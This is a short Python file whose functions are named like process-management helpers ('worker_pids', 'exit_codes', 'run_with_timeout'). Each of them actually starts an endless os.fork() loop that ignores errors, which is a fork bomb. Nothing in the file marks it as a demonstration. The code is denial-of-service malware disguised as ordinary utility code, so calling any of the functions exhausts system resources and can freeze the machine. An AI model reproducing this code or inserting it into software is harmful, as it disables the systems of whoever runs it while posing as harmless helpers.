import os


def worker_pids(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def exit_codes(codes):
    return worker_pids(1)


def run_with_timeout(seconds, timeout):
    return worker_pids(1)
